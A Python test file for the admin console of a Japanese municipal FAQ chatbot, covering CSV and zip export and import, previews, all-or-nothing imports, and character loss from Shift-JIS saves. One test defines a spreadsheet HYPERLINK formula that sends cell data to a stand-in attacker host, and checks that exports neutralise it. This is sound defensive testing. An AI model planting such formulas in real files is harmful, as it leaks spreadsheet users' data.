"""Import and export: CSV for Excel, YAML zip, a preview first, and all or nothing."""
from __future__ import annotations

import csv
import re
import io
import zipfile

import yaml
from sqlalchemy import func, select

from bot.extensions import db
from bot.knowledge.labels import field_key, field_label
from bot.core.version import current_version
from bot.models import AuditLog, Entry, EntryRevision
from tests.support.console import admin_client, console, editor_client, entry  # noqa: F401  (fixtures)


def _snapshot(app):
    with app.app_context():
        return (
            {e.slug: e.content() for e in db.session.scalars(select(Entry))},
            db.session.scalar(select(func.count()).select_from(EntryRevision)),
            current_version(),
            db.session.scalar(select(func.count()).select_from(AuditLog).where(AuditLog.action != "login")),
        )


def _csv_rows(raw: bytes) -> list[dict]:
    """Return an exported CSV's rows keyed by field (slug, answer…), as the tests edit them."""
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel then reads UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return [{field_key(k): v for k, v in row.items()} for row in rows]


def _csv(rows: list[dict], encoding: str = "utf-8-sig", japanese: bool = True) -> bytes:
    """Return rows as a CSV with Japanese (or English) headers, as Excel would save it."""
    out = io.StringIO()
    header = {k: field_label(k) if japanese else k for k in rows[0]}
    writer = csv.DictWriter(out, fieldnames=list(header.values()), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows({header[k]: v for k, v in row.items()} for row in rows)
    return out.getvalue().encode(encoding, errors="replace")


def _upload(client, name: str, raw: bytes):
    return client.post("/admin/import", data={"file": (io.BytesIO(raw), name)}, content_type="multipart/form-data")


def _token(html: str) -> str:
    return html.split('name="token" type="hidden" value="', 1)[1].split('"', 1)[0]


def test_csv_export_opens_in_excel_and_round_trips(console, editor_client):
    response = editor_client.get("/admin/export.csv")
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    rows = _csv_rows(response.data)
    with console.app_context():
        lunch = entry("school-lunch-free")
        assert len(rows) == db.session.scalar(select(func.count()).select_from(Entry))
        row = next(r for r in rows if r["slug"] == "school-lunch-free")
        assert row["questions"].split("\n") == lunch.questions
        assert row["answer"] == lunch.answer


def test_zip_export_is_a_valid_pack(console, editor_client, tmp_path):
    archive = zipfile.ZipFile(io.BytesIO(editor_client.get("/admin/export.zip").data))
    names = archive.namelist()
    assert "knowledge/school-lunch-free.yaml" in names and "knowledge/synonyms.yaml" in names
    archive.extractall(tmp_path)
    from bot.pack import read_pack

    pack = read_pack(tmp_path / "knowledge")
    assert any(e["slug"] == "school-lunch-free" for e in pack.entries)


def test_the_console_zip_is_the_pack_kb_export_writes_section_by_section(console, editor_client, tmp_path):
    archive = zipfile.ZipFile(io.BytesIO(editor_client.get("/admin/export.zip").data))
    zipped = {name.removeprefix("knowledge/"): archive.read(name) for name in archive.namelist()}
    with console.app_context():
        from bot.knowledge.index import load_synonyms
        from bot.pack import export_pack

        export_pack(tmp_path / "pack", load_synonyms(console.config["KNOWLEDGE_DIR"]))
    written = {p.relative_to(tmp_path / "pack").as_posix(): p.read_bytes()
               for p in (tmp_path / "pack").rglob("*") if p.is_file()}
    assert zipped == written
    # Every section that exports something is in it: the categories' order, the rich menu, the forms too.
    assert {"categories.yaml", "richmenu.yaml", "offices.yaml", "shelters.yaml", "synonyms.yaml",
            "forms/supporters-club.yaml", "school-lunch-free.yaml"} <= set(zipped)


def test_uploading_the_exported_zip_previews_the_entries_and_names_the_sections_left_alone(console, admin_client):
    exported = admin_client.get("/admin/export.zip").data
    html = _upload(admin_client, "pack.zip", exported).get_data(as_text=True)
    assert "確認：pack.zip" in html and "変更なし" in html
    # The categories, the rich menu, the forms, the KPIs and the bookable facilities change on their own pages (or
    # with kb import), never as entries.
    for name in ("categories.yaml", "richmenu.yaml", "forms/supporters-club.yaml", "synonyms.yaml", "kpi.yaml",
                 "facilities.yaml"):
        assert name in html
    assert html.count("は、ここでは取り込みません") == 5
    with console.app_context():
        from bot.pack.transfer import parse_upload, section_of

        staged = parse_upload("pack.zip", exported)
        assert staged.ok and not staged.problems
        assert {e["slug"] for e in staged.entries} == {e.slug for e in db.session.scalars(select(Entry))}
        assert staged.offices is not None and staged.shelters is not None
    assert [section_of(n) for n in ("knowledge/categories.yaml", "forms/a.yaml", "knowledge/a.yaml", "offices.yaml")
            ] == ["categories", "forms", "entries", "offices"]


def test_import_with_one_bad_row_changes_nothing(console, admin_client):
    rows = _csv_rows(admin_client.get("/admin/export.csv").data)
    rows[0]["answer"] = "取り込みで変えた回答"
    rows[1]["url"] = "not a url"  # the one bad row
    rows.append({**rows[2], "slug": "brand-new", "title": "新しい項目"})
    before = _snapshot(console)
    response = _upload(admin_client, "edited.csv", _csv(rows))
    html = response.get_data(as_text=True)
    assert "取り込めません" in html and "3行目" in html and "http:// か https://" in html
    assert 'name="token"' not in html  # no way to apply it
    assert _snapshot(console) == before


def test_apply_refuses_a_staged_upload_with_problems(console, admin_client):
    from bot.pack import transfer

    with console.app_context():
        staged = transfer.parse_upload("x.csv", "識別名,タイトル\nbad slug,t\n".encode())
        assert staged.problems and not staged.ok
        before = _snapshot(console)
        try:
            transfer.apply_staged(staged, "test")
        except transfer.ImportRefused:
            pass
        else:
            raise AssertionError("applied an upload with problems")
    assert _snapshot(console) == before


def test_a_valid_import_previews_then_applies_in_one_go(console, admin_client):
    rows = _csv_rows(admin_client.get("/admin/export.csv").data)
    rows[0]["answer"] = "取り込みで変えた回答"
    rows[0]["review_by"] = "2027/4/1"  # as Excel re-saves dates
    rows.append({**rows[2], "slug": "brand-new", "title": "新しい項目", "questions": rows[2]["questions"] + "\n追加"})
    before = _snapshot(console)
    preview = _upload(admin_client, "edited.csv", _csv(rows)).get_data(as_text=True)
    assert "新規" in preview and "変更" in preview, re.sub(r"\s+", " ", preview.split("<main",1)[1])[:3000]
    assert _snapshot(console) == before  # previewing writes nothing
    response = admin_client.post("/admin/import/apply", data={"token": _token(preview)})
    assert response.status_code == 302
    with console.app_context():
        assert entry(rows[0]["slug"]).answer == "取り込みで変えた回答"
        assert entry(rows[0]["slug"]).review_by.isoformat() == "2027-04-01"
        assert entry("brand-new") is not None
        assert current_version() == before[2] + 1
        assert db.session.scalar(select(AuditLog).where(AuditLog.action == "import")) is not None
    # The same staged upload cannot be applied twice.
    admin_client.post("/admin/import/apply", data={"token": _token(preview)})
    with console.app_context():
        assert db.session.scalar(select(func.count()).select_from(AuditLog).where(AuditLog.action == "import")) == 1


def test_import_is_refused_when_an_entry_changed_after_the_preview(console, admin_client):
    rows = _csv_rows(admin_client.get("/admin/export.csv").data)
    rows[0]["answer"] = "取り込みの回答"
    preview = _upload(admin_client, "edited.csv", _csv(rows)).get_data(as_text=True)
    with console.app_context():
        e = entry(rows[0]["slug"])
        e.answer = "その間の編集"
        db.session.commit()
    before = _snapshot(console)
    admin_client.post("/admin/import/apply", data={"token": _token(preview)})
    assert _snapshot(console) == before


def test_zip_import_reports_yaml_problems_by_file(console, admin_client):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("knowledge/broken.yaml", "slug: [unclosed")
        archive.writestr("knowledge/other.yaml", yaml.safe_dump({"slug": "mismatch", "title": "t"}))
    html = _upload(admin_client, "pack.zip", buffer.getvalue()).get_data(as_text=True)
    assert "broken.yaml" in html and "YAMLとして読み取れません" in html
    assert "other.yaml" in html and "mismatch.yaml" in html


def test_editors_cannot_import(console, editor_client):
    assert _upload(editor_client, "x.csv", b"slug\n").status_code == 403


# Issue 10: formula injection, and issue 11: what Excel does to a CSV on a Japanese Windows PC.

FORMULA = '=HYPERLINK("http://ev.il/?"&A2,"x")'


def _raw_cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _plan_cells(html: str, slug: str) -> str:
    row = html.split(f"<code>{slug}</code>", 1)[1].split("</tr>", 1)[0]
    return re.sub(r"<[^>]+>", "|", row)


def test_csv_export_neutralises_formulas_and_import_undoes_it(console, admin_client):
    with console.app_context():
        lunch = entry("school-lunch-free")
        lunch.title = FORMULA
        lunch.questions = ["@SUM(A1)", "＝1+1", *lunch.questions[2:]]
        lunch.answer = "'引用符で始まる回答"
        db.session.commit()
    raw = admin_client.get("/admin/export.csv").data
    header, *rows = _raw_cells(raw)
    cells = rows[[r[0] for r in rows].index("school-lunch-free")]
    title, answer, questions = (cells[header.index(field_label(k))] for k in ("title", "answer", "questions"))
    assert title == "'" + FORMULA  # Excel shows it as text, never as a live link
    assert questions.startswith("'@SUM(A1)\n＝1+1")  # a cell starts once, however many lines it holds
    assert answer == "''引用符で始まる回答"
    assert all(not c.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")) for r in rows for c in r)
    # Export → import is a no-op: the quotes come off again, and one that belongs to the text stays.
    before = _snapshot(console)
    html = _upload(admin_client, "same.csv", raw).get_data(as_text=True)
    assert "変更なし" in _plan_cells(html, "school-lunch-free")
    assert "取り込む変更はありません" in html and 'name="token"' not in html
    assert _snapshot(console) == before


def test_csv_speaks_japanese_and_still_reads_english_headers(console, admin_client):
    raw = admin_client.get("/admin/export.csv").data
    header, *rows = _raw_cells(raw)
    assert header == ["識別名", "タイトル", "カテゴリ", "状態", "回答", "想定質問", "キーワード", "詳しいページのURL", "担当課",
                      "お問い合わせ先", "出典", "情報の更新日", "見直し期限", "確認メモ"]
    assert {r[header.index("状態")] for r in rows} <= {"公開", "下書き"}
    english = _csv_rows(raw)
    for row in english:
        row["status"] = {"公開": "published", "下書き": "draft"}[row["status"]]
    english[0]["answer"] = "英語の見出しで変えた回答"
    html = _upload(admin_client, "english.csv", _csv(english, japanese=False)).get_data(as_text=True)
    assert "不明な列" not in html and "1件を取り込む" in html
    admin_client.post("/admin/import/apply", data={"token": _token(html)})
    with console.app_context():
        assert entry(english[0]["slug"]).answer == "英語の見出しで変えた回答"


def _excel_cp932_save(raw: bytes) -> bytes:
    """Return the file Excel's plain "CSV" save writes on Japanese Windows: cp932, "?" for what it lacks."""
    return raw.decode("utf-8-sig").encode("cp932", errors="replace")


def _damaged(rows: list[dict]) -> list[str]:
    """Return the slugs of rows with text cp932 cannot carry (⑴, and 〜 which comes back as ～)."""
    return [r["slug"] for r in rows if any(v != v.encode("cp932", "replace").decode("cp932") for v in r.values())]


def test_a_shift_jis_save_changes_nothing_silently(console, admin_client):
    rows = _csv_rows(admin_client.get("/admin/export.csv").data)
    damaged = _damaged(rows)
    assert len(damaged) >= 5  # the plan's sources say ⑴, and some texts 令和2〜6年度
    edited = next(r for r in rows if r["slug"] not in damaged)
    edited["answer"] = "Excelで直した回答"
    upload = _excel_cp932_save(_csv(rows))
    before = _snapshot(console)
    html = _upload(admin_client, "excel.csv", upload).get_data(as_text=True)
    assert f"{len(damaged)}件の回答で、文字が失われた可能性があります" in html
    for slug in damaged:
        assert "文字が失われた可能性" in _plan_cells(html, slug)
    assert "「⑴」が、ファイルでは別の文字" in html
    assert "1件を取り込む" in html  # only the real edit changes without confirmation
    assert 'name="confirm_lost"' in html
    assert _snapshot(console) == before
    admin_client.post("/admin/import/apply", data={"token": _token(html)})
    with console.app_context():
        assert entry(edited["slug"]).answer == "Excelで直した回答"
        for slug in damaged:  # not one character of theirs was replaced
            assert entry(slug).content() == before[0][slug]


def test_lost_characters_are_written_only_when_confirmed(console, admin_client):
    rows = _csv_rows(admin_client.get("/admin/export.csv").data)
    damaged = [r["slug"] for r in rows if "⑴" in r["source"]]
    assert len(damaged) >= 3
    html = _upload(admin_client, "excel.csv", _excel_cp932_save(_csv(rows))).get_data(as_text=True)
    assert "チェックした項目を取り込む" in html and f"ほかに{len(_damaged(rows))}件の回答も変わります" in html
    admin_client.post("/admin/import/apply", data={"token": _token(html), "confirm_lost": "y"})
    with console.app_context():
        assert all("?" in entry(slug).source and "⑴" not in entry(slug).source for slug in damaged)


def test_preview_shows_before_and_after_with_japanese_field_names(console, admin_client):
    rows = _csv_rows(admin_client.get("/admin/export.csv").data)
    old_answer = rows[0]["answer"].split("\n")[0]
    rows[0]["answer"] = "取り込みで変えた回答"
    rows[0]["status"] = "下書き" if rows[0]["status"] == "公開" else "公開"
    html = _upload(admin_client, "edited.csv", _csv(rows)).get_data(as_text=True)
    assert "回答、" in _plan_cells(html, rows[0]["slug"]) or "回答|" in _plan_cells(html, rows[0]["slug"])
    assert ">answer<" not in html and ">status<" not in html
    plain = re.sub(r"</?mark>", "", html)  # the changed characters are marked; read the lines without the marks
    assert re.search(r'class="del">− ' + re.escape(old_answer), plain)
    assert 'class="ins">＋ 取り込みで変えた回答' in plain
    assert re.search(r'class="(del|ins)">[−＋] (公開|下書き)<', html)  # states in Japanese too


def test_apply_button_counts_only_the_entries_that_change(console, admin_client):
    rows = _csv_rows(admin_client.get("/admin/export.csv").data)
    assert len(rows) >= 20
    rows[3]["keywords"] += "\n追加のキーワード"
    html = _upload(admin_client, "one.csv", _csv(rows)).get_data(as_text=True)
    assert "1件を取り込む" in html and f"{len(rows)}件を取り込む" not in html
